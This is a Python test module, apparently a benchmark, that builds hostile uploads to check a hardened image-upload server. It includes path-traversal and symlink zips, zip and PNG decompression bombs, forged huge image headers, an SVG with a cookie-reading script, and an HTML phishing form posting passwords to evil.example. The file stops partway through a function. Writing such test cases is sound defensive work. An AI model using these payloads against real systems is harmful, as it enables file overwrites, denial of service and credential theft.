"""A library of hostile uploads, each built from scratch in code: zips that attack the unpacker and images that attack the decoders.

Every case has a name, a kind ("zip" or "image"), a function writing its file into a folder,
and the outcome a hardened server gives it:

- "refused": the whole upload is refused with a plain error;
- "skipped file": the upload is accepted, the hostile file is left out and listed in the
  dataset's `skipped` with a reason;
- "accepted": the file is used (possibly after conversion to a PNG copy).

An image case is meant to be put beside normal images in a two-class zip (`image_zip`) and
predicted on its own: "skipped file" then means the prediction is refused, "accepted" that it
is made. Nothing here allocates a big array: large images are written chunk by chunk (PNG rows
fed to `zlib.compressobj`), or are headers claiming sizes their data does not have. The normal
content of the zips are real flower photos of the offline assets.

Usage (builds every case into a folder, to look at them):
    python benchmarks/hostile_cases.py [--folder DIR] [--only NAME ...]
    python benchmarks/hostile_cases.py --smoke   # a few cases, into a temporary folder
"""

from __future__ import annotations

import argparse
import io
import random
import shutil
import stat
import struct
import sys
import tempfile
import unicodedata
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

from PIL import Image

ROOT = Path(__file__).resolve().parents[1]
FLOWERS = ROOT.parent / "shared" / "assets" / "datasets" / "flowers"

REFUSED = "refused"
SKIPPED = "skipped file"
ACCEPTED = "accepted"
OUTCOMES = (REFUSED, SKIPPED, ACCEPTED)

MiB = 1024 * 1024
# Pillow refuses images above twice this many pixels and only warns between one and two times it.
PILLOW_LIMIT = 89_478_485
# What a zip case's normal content holds: this many real photos in each of two class folders.
PER_CLASS = 6
NORMAL_CLASSES = ("daisy", "rose")
# Files whose name starts with this must never appear on disk: a zip entry escaping its folder.
ESCAPED = "escaped-"


@dataclass(frozen=True)
class Case:
    """One hostile upload.

    Attributes:
        name: Short identifier, also the `--only` name.
        kind: "zip" or "image".
        build: Writes the file into the folder it is given and returns its path.
        expected: One of `OUTCOMES`.
        about: What the file is, in a few words.
        skip: Zip cases: paths inside the zip that must be listed in `skipped`.
        keep: Zip cases: paths inside the zip that must not be listed in `skipped`.
        classes: Zip cases: how many classes the accepted dataset must have.
        twice: The zip is loaded twice under two names; it must be stored once.
    """

    name: str
    kind: str
    build: Callable[[Path], Path]
    expected: str
    about: str
    skip: tuple[str, ...] = ()
    keep: tuple[str, ...] = ()
    classes: int | None = None
    twice: bool = False


# Normal content -------------------------------------------------------------------------------


@lru_cache(maxsize=None)
def photos(class_name: str) -> tuple[Path, ...]:
    """The real flower photos (128 px JPEG) of one class, sorted by name."""
    folder = FLOWERS / class_name
    if not folder.is_dir():
        sys.exit(f"Missing offline dataset: {folder}")
    return tuple(sorted(folder.glob("*.jpg")))


@lru_cache(maxsize=None)
def photo_bytes(class_name: str, index: int) -> bytes:
    return photos(class_name)[index].read_bytes()


def photo(index: int = 0, class_name: str = "daisy") -> Image.Image:
    """One real photo as an RGB Pillow image (128 px: small)."""
    with Image.open(photos(class_name)[index]) as image:
        return image.convert("RGB")


def normal_entries(per_class: int = PER_CLASS, classes: Iterable[str] = NORMAL_CLASSES, start: int = 0) -> list:
    """`(name in zip, bytes)` of real photos, `per_class` in each class folder."""
    return [(f"{name}/{i:02d}.jpg", photo_bytes(name, start + i)) for name in classes for i in range(per_class)]


def predict_image(folder: Path) -> Path:
    """A normal photo that no zip case holds, to predict with a trained run."""
    target = Path(folder) / "normal-daisy.jpg"
    target.write_bytes(photo_bytes("daisy", 100))
    return target


def encode(image: Image.Image, image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


# Zip writing ------------------------------------------------------------------------------------


def write_zip(path: Path, entries: Iterable, compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """Writes a zip of `(name or ZipInfo, bytes)` entries, in order; duplicate names are allowed."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name" is the point of one case
        with zipfile.ZipFile(path, "w", compression) as archive:
            for name, data in entries:
                archive.writestr(name, data)
    return path


def stream_entry(archive: zipfile.ZipFile, name: str, size: int, chunk: bytes = bytes(MiB)) -> None:
    """Writes `size` bytes of repeated `chunk` as one entry, without holding them in memory."""
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w") as sink:
        left = size
        while left > 0:
            part = chunk[: min(left, len(chunk))]
            sink.write(part)
            left -= len(part)


LOCAL_HEADER = b"PK\x03\x04"
CENTRAL_HEADER = b"PK\x01\x02"


def patch_headers(data: bytes, name: bytes, *, flag: int = 0, method: int | None = None, file_size: int | None = None,
                  crc: int | None = None, new_name: bytes | None = None) -> bytes:
    """Rewrites header fields of the entry called `name`, in its local and its central header.

    Python's writer refuses or normalises what a hostile zip holds (an encryption flag, a wrong
    size, a NUL in a name), so those are set in the bytes afterwards.
    """
    patched = bytearray(data)
    # (signature, offset of flags, method, crc, uncompressed size, name length, name)
    layouts = ((LOCAL_HEADER, 6, 8, 14, 22, 26, 30), (CENTRAL_HEADER, 8, 10, 16, 24, 28, 46))
    found = 0
    for signature, flags_at, method_at, crc_at, size_at, length_at, name_at in layouts:
        start = 0
        while (start := patched.find(signature, start)) >= 0:
            (length,) = struct.unpack_from("<H", patched, start + length_at)
            if bytes(patched[start + name_at: start + name_at + length]) == name:
                found += 1
                (flags,) = struct.unpack_from("<H", patched, start + flags_at)
                struct.pack_into("<H", patched, start + flags_at, flags | flag)
                if method is not None:
                    struct.pack_into("<H", patched, start + method_at, method)
                if crc is not None:
                    struct.pack_into("<I", patched, start + crc_at, crc)
                if file_size is not None:
                    struct.pack_into("<I", patched, start + size_at, file_size)
                if new_name is not None:
                    if len(new_name) != len(name):
                        raise ValueError("a new name must have as many bytes as the old one")
                    patched[start + name_at: start + name_at + length] = new_name
            start += 4
    if found != 2:
        raise ValueError(f"entry {name!r} found {found} times in the headers, not twice")
    return bytes(patched)


def patched_zip(path: Path, entries: list, name: str, **fields) -> Path:
    """A normal zip of `entries`, then `patch_headers` on the entry `name`."""
    write_zip(path, entries)
    path.write_bytes(patch_headers(path.read_bytes(), name.encode(), **fields))
    return path


def special_entry(name: str, file_type: int, data: bytes = b"") -> tuple[zipfile.ZipInfo, bytes]:
    """An entry whose Unix mode says it is a link, a FIFO, ... (`file_type` is a `stat.S_IF*`)."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix: the mode is in the high 16 bits
    info.external_attr = (file_type | 0o777) << 16
    return info, data


# PNG writing ------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_stream(width: int, height: int, bit_depth: int, colour_type: int, rows: Iterable[bytes],
               extra_chunks: Iterable[bytes] = (), level: int = 9) -> bytes:
    """A PNG whose rows (each with its filter byte) are fed one by one to zlib: no big array, ever."""
    out = [b"\x89PNG\r\n\x1a\n", png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0))]
    out += list(extra_chunks)
    compressor = zlib.compressobj(level)
    pending = bytearray()
    for row in rows:
        pending += compressor.compress(row)
        while len(pending) >= 1 << 16:
            out.append(png_chunk(b"IDAT", bytes(pending[: 1 << 16])))
            del pending[: 1 << 16]
    pending += compressor.flush()
    for start in range(0, len(pending), 1 << 16):
        out.append(png_chunk(b"IDAT", bytes(pending[start: start + (1 << 16)])))
    out.append(png_chunk(b"IEND", b""))
    return b"".join(out)


def flat_png(side: int, bit_depth: int = 8, shade: int = 0, height: int | None = None) -> bytes:
    """A grey PNG of `side` x `height` whose rows shade slowly: tiny on disk, `side * height` pixels decoded."""
    height = height or side
    row_bytes = side * bit_depth // 8

    def rows():
        for y in range(height):
            value = (shade + y // 64) % 256
            yield b"\x00" + bytes([value]) * row_bytes

    return png_stream(side, height, bit_depth, 0, rows())


def zlib_bomb(size: int) -> bytes:
    """`size` zero bytes compressed by zlib, fed in 1 MiB pieces."""
    compressor = zlib.compressobj(9)
    block = bytes(MiB)
    parts, left = [], size
    while left > 0:
        parts.append(compressor.compress(block[: min(left, MiB)]))
        left -= MiB
    parts.append(compressor.flush())
    return b"".join(parts)


def small_png_chunks(extra: bytes) -> bytes:
    """A real 64 px photo as PNG with one more chunk before its image data."""
    data = encode(photo(3).resize((64, 64)), "PNG")
    at = data.index(b"IDAT") - 4
    return data[:at] + extra + data[at:]


# Image builders -----------------------------------------------------------------------------------
# Each writes one file into `folder` and returns its path.


def _writer(file_name: str, make: Callable[[], bytes]) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        target = Path(folder) / file_name
        target.write_bytes(make())
        return target

    build.file_name = file_name
    return build


def png_bad_idat_crc() -> bytes:
    data = bytearray(encode(photo(1), "PNG"))
    start = data.index(b"IDAT") - 4
    (length,) = struct.unpack_from(">I", data, start)
    crc_at = start + 8 + length
    data[crc_at: crc_at + 4] = bytes(b ^ 0xFF for b in data[crc_at: crc_at + 4])
    return bytes(data)


def bmp_os2() -> bytes:
    """A 24-bit BMP with the 12-byte OS/2 BITMAPCOREHEADER."""
    image = photo(2).resize((64, 48))
    width, height = image.size
    row_size = (width * 3 + 3) // 4 * 4
    rows = []
    for y in range(height - 1, -1, -1):  # bottom-up
        row = image.crop((0, y, width, y + 1)).tobytes()  # RGB
        bgr = bytearray(row)
        bgr[0::3], bgr[2::3] = row[2::3], row[0::3]
        rows.append(bytes(bgr) + bytes(row_size - width * 3))
    pixels = b"".join(rows)
    core = struct.pack("<IHHHH", 12, width, height, 1, 24)
    offset = 14 + len(core)
    return b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset) + core + pixels


def bmp_rle8() -> bytes:
    """An 8-bit run-length-encoded BMP (BI_RLE8), which Pillow decodes and TensorFlow does not."""
    image = photo(4).resize((64, 64)).quantize(colors=64)
    width, height = image.size
    palette = image.getpalette()[: 256 * 3]
    palette += [0] * (256 * 3 - len(palette))
    colour_table = b"".join(bytes([palette[i * 3 + 2], palette[i * 3 + 1], palette[i * 3], 0]) for i in range(256))
    indices = image.tobytes()
    data = bytearray()
    for y in range(height - 1, -1, -1):
        row = indices[y * width: (y + 1) * width]
        x = 0
        while x < width:
            run = 1
            while x + run < width and run < 255 and row[x + run] == row[x]:
                run += 1
            data += bytes([run, row[x]])
            x += run
        data += b"\x00\x00"  # end of line
    data += b"\x00\x01"  # end of bitmap
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(data), 2835, 2835, 256, 0)
    offset = 14 + len(info) + len(colour_table)
    return b"BM" + struct.pack("<IHHI", offset + len(data), 0, 0, offset) + info + colour_table + bytes(data)


def png16_under_pillow_limit(shade: int = 0) -> bytes:
    """9,400 x 9,400 16-bit grey (88.4 M pixels, just under Pillow's 89.5 M): about 200 KB on disk, 177 MB of samples."""
    return flat_png(9400, bit_depth=16, shade=shade)


@lru_cache(maxsize=None)
def jpeg2000_small() -> bytes:
    """A real photo as a JPEG 2000 file (Pillow writes JPEG2000 through OpenJPEG)."""
    return encode(photo(5), "JPEG2000")


@lru_cache(maxsize=None)
def jpeg2000_huge_template() -> bytes:
    """A raw JPEG 2000 codestream of 9,400 x 9,400 mid-grey RGB, without ever making that image.

    OpenJPEG's encoding of a flat mid-grey picture holds only empty packets, whose number depends
    on the resolution levels and components and not on the size: the codestream of a small flat
    image with its size fields (SIZ) rewritten decodes to the large one, 88 M pixels that cost
    seconds and over a gigabyte to decode.
    """
    data = bytearray(encode(Image.new("RGB", (64, 64), (128, 128, 128)), "JPEG2000", no_jp2=True))
    siz = data.index(b"\xff\x51")
    for offset in (6, 10, 22, 26):  # Xsiz, Ysiz, XTsiz, YTsiz
        struct.pack_into(">I", data, siz + offset, 9400)
    return bytes(data)


def jpeg2000_huge(copy: int = 0, size: int = 1400) -> bytes:
    """`jpeg2000_huge_template` padded to `size` bytes with a comment that makes each copy distinct."""
    data = jpeg2000_huge_template()
    tile = data.index(b"\xff\x90")  # SOT: the main header ends here
    head, rest = data[:tile], data[tile:]
    text = f"hostile copy {copy:03d} ".encode()
    room = max(0, size - len(data) - 6)
    text = (text * (room // len(text) + 1))[:room]
    comment = b"\xff\x64" + struct.pack(">HH", len(text) + 4, 1) + text
    return head + comment + rest


def truncated_png() -> bytes:
    data = encode(photo(6), "PNG")
    return data[: len(data) * 6 // 10]


def truncated_jpeg() -> bytes:
    data = photo_bytes("daisy", 7)
    return data[: len(data) // 2]


def random_bytes() -> bytes:
    return random.Random(7).randbytes(20_000)


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000">
  <script>alert(document.cookie)</script>
  <image href="https://evil.example/x.png" width="100000" height="100000"/>
</svg>
"""
HTML = b"""<!doctype html><html><body><h1>Session expired</h1>
<form action="https://evil.example/login"><input name="password" type="password"></form>
<script>alert(1)</script></body></html>
"""


def gif_many_frames(frames: int = 5000) -> bytes:
    """A real 256 px photo as a GIF, then `frames` more 1 x 1 frames: 100 KB, 5,001 frames."""
    data = encode(photo(8).resize((256, 256)), "GIF")
    assert data.endswith(b"\x3b")
    frame = bytearray()
    for index in range(frames):
        x, y = index % 256, (index // 256) % 256
        frame += b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: no disposal, delay 1
        frame += b"\x2c" + struct.pack("<HHHH", x, y, 1, 1) + b"\x00"  # 1x1 at (x, y), global colours
        frame += b"\x02\x02\x44\x01\x00"  # LZW: clear, index 0, end
    return data[:-1] + bytes(frame) + b"\x3b"


def gif_huge() -> bytes:
    """A GIF header claiming 65,535 x 65,535 (4.3 G pixels), with one pixel of data."""
    screen = struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + image + b"\x3b"


def tiff_huge() -> bytes:
    """A little-endian TIFF whose tags claim 60,000 x 60,000 8-bit grey (3.6 G pixels), with 16 bytes of data."""
    entries = [
        (256, 4, 1, 60000),  # ImageWidth, LONG
        (257, 4, 1, 60000),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample, SHORT
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 0),  # StripOffsets, filled below
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, 60000),  # RowsPerStrip
        (279, 4, 1, 16),  # StripByteCounts
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    data_at = 8 + ifd_size
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        value = data_at if tag == 273 else value
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x00\x00\x00\x00" + bytes(16)


def jpeg_huge() -> bytes:
    """A real JPEG whose frame header (SOF) is rewritten to claim 65,500 x 65,500."""
    data = bytearray(photo_bytes("daisy", 9))
    at = 2
    while at < len(data):
        marker, length = data[at + 1], struct.unpack_from(">H", data, at + 2)[0]
        if marker in (0xC0, 0xC1, 0xC2):
            struct.pack_into(">HH", data, at + 5, 65500, 65500)  # height, width
            return bytes(data)
        at += 2 + length
    raise ValueError("no SOF marker")


def webp_huge() -> bytes:
    """A real lossy WebP whose VP8 frame header is rewritten to claim 16,383 x 16,383 (268 M pixels)."""
    data = bytearray(encode(photo(10).resize((32, 32)), "WEBP", quality=50))
    at = data.index(b"VP8 ") + 8  # chunk payload: frame tag (3), start code (3), width (2), height (2)
    assert data[at + 3: at + 6] == b"\x9d\x01\x2a"
    struct.pack_into("<HH", data, at + 6, 16383, 16383)
    return bytes(data)


def bmp_huge() -> bytes:
    """A 24-bit BMP header claiming 30,000 x 30,000 (900 M pixels), with 64 bytes of pixels."""
    info = struct.pack("<IiiHHIIiiII", 40, 30000, 30000, 1, 24, 0, 0, 2835, 2835, 0, 0)
    offset = 14 + len(info)
    return b"BM" + struct.pack("<IHHI", offset + 64, 0, 0, offset) + info + bytes(64)


def png_bomb() -> bytes:
    """20,000 x 20,000 8-bit grey (400 M pixels, beyond twice Pillow's limit): about 400 KB on disk."""
    return flat_png(20000)


def png_between_pillow_limits() -> bytes:
    """12,000 x 12,000 8-bit grey (144 M pixels): Pillow only warns between 89.5 M and 179 M."""
    return flat_png(12000)


AT_LIMIT_SIDE = 4472  # 4,472 x 4,472 = 19,998,784 pixels: just under tlcore's default 20 M


def png_at_limit() -> bytes:
    """4,472 x 4,472 8-bit grey: just under tlcore's default 20 M pixels, so accepted."""
    return flat_png(AT_LIMIT_SIDE)


def jpeg_at_limit() -> bytes:
    """A 4,472 x 4,472 grey JPEG (20 M pixels) with some texture; a 20 MB image is made once to encode it."""
    image = photo(11).convert("L").resize((AT_LIMIT_SIDE, AT_LIMIT_SIDE), Image.Resampling.NEAREST)
    return encode(image, "JPEG", quality=60)


def png_ztxt_bomb() -> bytes:
    """A real photo with a zTXt chunk that inflates to 512 MiB of zeros."""
    return small_png_chunks(png_chunk(b"zTXt", b"Comment\x00\x00" + zlib_bomb(512 * MiB)))


def png_iccp_bomb() -> bytes:
    """A real photo with an iCCP colour profile that inflates to 512 MiB of zeros."""
    return small_png_chunks(png_chunk(b"iCCP", b"ICC profile\x00\x00" + zlib_bomb(512 * MiB)))


def cmyk_jpeg() -> bytes:
    return encode(photo(12).convert("CMYK"), "JPEG", quality=90)


def exif_rotated_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 degrees to show
    return encode(photo(13).resize((128, 96)), "JPEG", quality=90, exif=exif)


def apng() -> bytes:
    frames = [photo(14 + i).resize((96, 96)) for i in range(3)]
    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)


def palette_png_transparency() -> bytes:
    image = photo(17).quantize(colors=64)
    return encode(image, "PNG", transparency=0)


def png_1x1() -> bytes:
    return encode(Image.new("RGB", (1, 1), (200, 40, 40)), "PNG")


def png16_small() -> bytes:
    grey = photo(18).convert("L")
    wide = Image.frombytes("I;16", grey.size, bytes(b for v in grey.tobytes() for b in (v, v)))
    return encode(wide, "PNG")


def tiff_normal() -> bytes:
    return encode(photo(19), "TIFF", compression="tiff_lzw")


def webp_normal() -> bytes:
    return encode(photo(20), "WEBP", quality=80)


IMAGE_SPECS = [
    # name, file name, expected, builder, about
    ("png_bad_idat_crc", "bad_crc.png", ACCEPTED, png_bad_idat_crc, "PNG whose IDAT checksum is wrong (converted)"),
    ("bmp_os2_header", "os2.bmp", ACCEPTED, bmp_os2, "BMP with a 12-byte OS/2 BITMAPCOREHEADER (converted)"),
    ("bmp_rle8", "rle.bmp", ACCEPTED, bmp_rle8, "run-length-encoded 8-bit BMP (converted)"),
    ("png16_under_pillow_limit", "big16.png", SKIPPED, png16_under_pillow_limit,
     "9,400 x 9,400 16-bit grey PNG, just under Pillow's limit, ~200 KB"),
    ("png_between_pillow_limits", "big144m.png", SKIPPED, png_between_pillow_limits,
     "12,000 x 12,000 PNG: Pillow only warns"),
    ("png_bomb", "bomb.png", SKIPPED, png_bomb, "20,000 x 20,000 PNG, beyond Pillow's limit"),
    ("png_ztxt_bomb", "ztxt.png", SKIPPED, png_ztxt_bomb, "zTXt chunk inflating to 512 MiB"),
    ("png_iccp_bomb", "iccp.png", SKIPPED, png_iccp_bomb, "iCCP profile inflating to 512 MiB"),
    ("png_at_limit", "limit20m.png", ACCEPTED, png_at_limit, "4,472 x 4,472 PNG, just under the default pixel limit"),
    ("jpeg_at_limit", "limit20m.jpg", ACCEPTED, jpeg_at_limit, "4,472 x 4,472 JPEG, just under the default pixel limit"),
    ("jpeg2000_named_png", "j2k.png", SKIPPED, jpeg2000_small, "JPEG 2000 photo named .png"),
    ("jpeg2000_huge_named_jpg", "j2k_huge.jpg", SKIPPED, jpeg2000_huge,
     "1.4 KB JPEG 2000 of 9,400 x 9,400 named .jpg"),
    ("truncated_png", "cut.png", SKIPPED, truncated_png, "PNG cut at 60%"),
    ("truncated_jpeg", "cut.jpg", SKIPPED, truncated_jpeg, "JPEG cut at 50%"),
    ("random_bytes_png", "random.png", SKIPPED, random_bytes, "20 KB of random bytes named .png"),
    ("zero_bytes_jpg", "empty.jpg", SKIPPED, lambda: b"", "zero-byte file named .jpg"),
    ("svg_named_png", "vector.png", SKIPPED, lambda: SVG, "SVG with a script, named .png"),
    ("html_named_jpg", "page.jpg", SKIPPED, lambda: HTML, "HTML login form named .jpg"),
    ("gif_many_frames", "frames.gif", ACCEPTED, gif_many_frames, "256 px GIF with 5,001 frames (first used)"),
    ("gif_huge_header", "huge.gif", SKIPPED, gif_huge, "GIF header claiming 65,535 x 65,535"),
    ("tiff_huge_header", "huge.tif", SKIPPED, tiff_huge, "TIFF tags claiming 60,000 x 60,000"),
    ("jpeg_huge_header", "huge.jpg", SKIPPED, jpeg_huge, "JPEG SOF claiming 65,500 x 65,500"),
    ("webp_huge_header", "huge.webp", SKIPPED, webp_huge, "WebP VP8 header claiming 16,383 x 16,383"),
    ("bmp_huge_header", "huge.bmp", SKIPPED, bmp_huge, "BMP header claiming 30,000 x 30,000"),
    ("cmyk_jpeg", "cmyk.jpg", ACCEPTED, cmyk_jpeg, "CMYK JPEG (converted)"),
    ("exif_rotated_jpeg", "rotated.jpg", ACCEPTED, exif_rotated_jpeg, "JPEG with EXIF orientation 6 (converted)"),
    ("apng", "animated.png", ACCEPTED, apng, "animated PNG, 3 frames (converted)"),
    ("palette_png_transparency", "palette.png", ACCEPTED, palette_png_transparency, "palette PNG with a transparent colour"),
    ("png_1x1", "tiny.png", ACCEPTED, png_1x1, "1 x 1 PNG"),
    ("png16_small", "small16.png", ACCEPTED, png16_small, "128 px 16-bit grey PNG (converted)"),
    ("tiff_normal", "photo.tif", ACCEPTED, tiff_normal, "LZW TIFF photo (converted)"),
    ("webp_normal", "photo.webp", ACCEPTED, webp_normal, "lossy WebP photo (converted)"),
]

IMAGE_CASES = [
    Case(name, "image", _writer(file_name, make), expected, about)
    for name, file_name, expected, make, about in IMAGE_SPECS
]


def image_file_name(case: Case) -> str:
    """The name an image case's builder gives its file."""
    return case.build.file_name


def image_zip(case: Case, folder: Path) -> Path:
    """An image case put beside normal photos in a two-class zip, as `daisy/<file name>`."""
    image = case.build(Path(folder))
    entries = normal_entries() + [(f"daisy/{image.name}", image.read_bytes())]
    return write_zip(Path(folder) / f"{case.name}.zip", entries)


def image_zip_member(case: Case) -> str:
    return f"daisy/{image_file_name(case)}"


# Zip builders ---------------------------------------------------------------------------------------


def _zip(file_name: str, make: Callable[[Path], None]) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        target = Path(folder) / file_name
        make(target)
        return target

    return build


def with_normal(*extra) -> list:
    return normal_entries() + list(extra)


def zip_slip(path: Path) -> None:
    write_zip(path, with_normal(("daisy/../../../" + ESCAPED + "slip.jpg", photo_bytes("daisy", 30))))


def zip_absolute(path: Path) -> None:
    # The folder the zip lies in, as an absolute path: an unpacker that obeys it writes beside the zip.
    target = str(path.parent.resolve() / (ESCAPED + "absolute.jpg"))
    write_zip(path, with_normal((target, photo_bytes("daisy", 30))))


def zip_drive_letter(path: Path) -> None:
    write_zip(path, with_normal(("C:\\Users\\Public\\" + ESCAPED + "drive.jpg", photo_bytes("daisy", 30)),
                                ("D:/" + ESCAPED + "drive2.jpg", photo_bytes("daisy", 31))))


def zip_backslash(path: Path) -> None:
    write_zip(path, with_normal(("daisy\\..\\..\\..\\" + ESCAPED + "backslash.jpg", photo_bytes("daisy", 30))))


def zip_symlink(path: Path) -> None:
    write_zip(path, with_normal(special_entry("daisy/link.jpg", stat.S_IFLNK, b"/etc/passwd"),
                                special_entry("rose/up", stat.S_IFLNK, b"../../..")))


def zip_fifo(path: Path) -> None:
    write_zip(path, with_normal(special_entry("daisy/pipe.jpg", stat.S_IFIFO)))


def zip_encrypted(path: Path) -> None:
    patched_zip(path, with_normal(("daisy/secret.jpg", photo_bytes("daisy", 30))), "daisy/secret.jpg", flag=0x1)


def zip_understated(path: Path) -> None:
    # 3 MiB of zeros whose header declares 1,000 bytes (and the checksum of those 1,000).
    patched_zip(path, with_normal(("daisy/lie.jpg", bytes(3 * MiB))), "daisy/lie.jpg",
                file_size=1000, crc=zlib.crc32(bytes(1000)))


def zip_overstated(path: Path) -> None:
    real = photo_bytes("daisy", 30)
    patched_zip(path, with_normal(("daisy/more.jpg", real)), "daisy/more.jpg", file_size=len(real) + 5000)


def zip_declares_huge(path: Path) -> None:
    patched_zip(path, with_normal(("daisy/huge.jpg", photo_bytes("daisy", 30))), "daisy/huge.jpg",
                file_size=300 * MiB)


def zip_bad_crc(path: Path) -> None:
    patched_zip(path, with_normal(("daisy/crc.jpg", photo_bytes("daisy", 30))), "daisy/crc.jpg", crc=0x12345678)


def zip_ratio_bomb(path: Path) -> None:
    write_zip(path, with_normal())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        stream_entry(archive, "daisy/bomb.jpg", 200 * MiB)


def zip_total_ratio_bomb(path: Path) -> None:
    """200 files of 1 MiB - 1 byte of zeros: each is below the per-file ratio check's 1 MiB."""
    write_zip(path, with_normal())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        for index in range(200):
            stream_entry(archive, f"daisy/zeros_{index:03d}.jpg", MiB - 1)


def zip_too_many_members(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in with_normal():
            archive.writestr(name, data)
        for index in range(20_001):
            archive.writestr(f"notes/{index // 1000:02d}/{index:05d}.txt", b"")


def zip_duplicate_names(path: Path) -> None:
    write_zip(path, with_normal(("daisy/00.jpg", photo_bytes("rose", 40))))


def zip_deep(path: Path) -> None:
    write_zip(path, with_normal(("daisy/" + "d/" * 1000 + "deep.jpg", photo_bytes("daisy", 30))))


def zip_file_and_folder(path: Path) -> None:
    write_zip(path, with_normal(("daisy/both.jpg", photo_bytes("daisy", 30)),
                                ("daisy/both.jpg/inner.jpg", photo_bytes("daisy", 31))))


def zip_long_folder_name(path: Path) -> None:
    write_zip(path, with_normal(*[("F" * 300 + f"/{i}.jpg", photo_bytes("daisy", 30 + i)) for i in range(3)]))


def zip_long_file_name(path: Path) -> None:
    write_zip(path, with_normal(("daisy/" + "n" * 296 + ".jpg", photo_bytes("daisy", 30))))


def zip_long_path(path: Path) -> None:
    folders = "/".join(f"{i}" * 100 for i in range(6))  # 6 names of 100 characters: 605 in all
    write_zip(path, with_normal((f"daisy/{folders}/long.jpg", photo_bytes("daisy", 30))))


def zip_nul_name(path: Path) -> None:
    placeholder = "daisy/x.jpg_../../../" + ESCAPED + "nul.jpg"
    write_zip(path, with_normal((placeholder, photo_bytes("daisy", 30))))
    path.write_bytes(patch_headers(path.read_bytes(), placeholder.encode(),
                                   new_name=placeholder.replace("_", "\x00", 1).encode()))


def zip_unsupported_method(path: Path) -> None:
    # 9 is Deflate64, which Windows' own zip tool writes for big folders and Python cannot read.
    patched_zip(path, with_normal(("daisy/d64.jpg", photo_bytes("daisy", 30))), "daisy/d64.jpg", method=9)


def zip_empty(path: Path) -> None:
    write_zip(path, [])


def zip_not_a_zip(path: Path) -> None:
    path.write_bytes(b"This is a plain text file named like a zip.\n" * 20)


def zip_truncated(path: Path) -> None:
    write_zip(path, with_normal())
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def zip_only_text(path: Path) -> None:
    write_zip(path, [("notes/readme.txt", b"hello\n"), ("notes/list.csv", b"a,b\n1,2\n"), ("other/x.md", b"# x\n")])


def zip_one_class(path: Path) -> None:
    write_zip(path, normal_entries(classes=("daisy",)))


def zip_loose_images(path: Path) -> None:
    write_zip(path, [(f"{i:02d}.jpg", photo_bytes("daisy", i)) for i in range(8)])


def zip_stray_image(path: Path) -> None:
    write_zip(path, with_normal(("stray.jpg", photo_bytes("daisy", 30))))


def zip_nested_only(path: Path) -> None:
    write_zip(path, [(f"{c}/sub/{i:02d}.jpg", photo_bytes(c, i)) for c in NORMAL_CLASSES for i in range(PER_CLASS)])


def zip_validation_only(path: Path) -> None:
    write_zip(path, [(f"validation/{c}/{i:02d}.jpg", photo_bytes(c, i)) for c in NORMAL_CLASSES for i in range(PER_CLASS)])


def zip_one_image_class(path: Path) -> None:
    write_zip(path, normal_entries(classes=("daisy",)) + [("rose/only.jpg", photo_bytes("rose", 0))])


def zip_junk(path: Path) -> None:
    apple_double = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(60)
    write_zip(path, with_normal(("__MACOSX/daisy/._00.jpg", apple_double), ("daisy/.DS_Store", b"\x00\x00\x00\x01Bud1" + bytes(40)),
                                ("rose/Thumbs.db", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)),
                                ("rose/desktop.ini", b"[.ShellClassInfo]\r\n")))


def named_classes(*names: str, per_class: int = PER_CLASS) -> Callable[[Path], None]:
    """A zip whose class folders carry these names, each holding real photos."""
    def make(path: Path) -> None:
        entries = []
        for index, name in enumerate(names):
            source = NORMAL_CLASSES[index % 2]
            entries += [(f"{name}/{i:02d}.jpg", photo_bytes(source, index * per_class + i)) for i in range(per_class)]
        write_zip(path, entries)

    return make


MARKDOWN_LINK = "[Session expired - log in again](https://evil.example/login)"
MARKDOWN_IMAGE = "![x](https://evil.example/x.png)"
HTML_NAME = "<img src=https://evil.example/p.png>"
# The same, with U+2215 DIVISION SLASH for "/": one folder name in a zip, yet still a link in Markdown.
ONE_FOLDER = str.maketrans({"/": "\u2215"})


def zip_rtl_exe(path: Path) -> None:
